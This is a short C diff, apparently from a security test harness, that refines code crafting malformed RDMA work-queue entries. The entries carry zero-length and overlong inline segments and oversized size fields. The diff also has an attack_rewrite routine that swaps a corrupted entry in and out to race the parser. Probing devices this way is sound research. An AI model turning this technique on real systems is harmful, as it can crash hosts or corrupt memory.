@@ -348,10 +348,12 @@ rewrite_wqe(uint8_t *w, uint32_t variant)
 
 	switch (variant % 5) {
 	case 0:			/* "inline, length 0" */
-		*inl = rte_cpu_to_be_32(RNIC_WQE_INLINE);
+		next->flags = rte_cpu_to_be_32(flags | RNIC_WQE_F_INLINE);
+		*inl = 0;
 		break;
 	case 1:			/* inline, far longer than the WQE */
-		*inl = rte_cpu_to_be_32(RNIC_WQE_INLINE | 0xfffff);
+		next->flags = rte_cpu_to_be_32(flags | RNIC_WQE_F_INLINE);
+		*inl = rte_cpu_to_be_32(0xfffff);
 		break;
 	case 2:			/* the WQE's own size: the largest */
 		next->flags = rte_cpu_to_be_32(flags | 0x3fu << RNIC_WQE_F_SIZE_SHIFT);
@@ -425,8 +427,8 @@ attack_rewrite(int ready_fd)
 		if (w != NULL) {
 			memcpy(orig, w, len);
 			memcpy(bad, w, len);
-			if (big)	/* the data segment's first word: inline, no bytes */
-				*(uint32_t *)(bad + 2 * RNIC_WQE_SEG) = rte_cpu_to_be_32(RNIC_WQE_INLINE);
+			if (big)	/* inline, no bytes */
+				rewrite_wqe(bad, 0);
 			else
 				rewrite_wqe(bad, n / 4);
 			/* Back and forth, so that one parse sees one version and the next the other. */
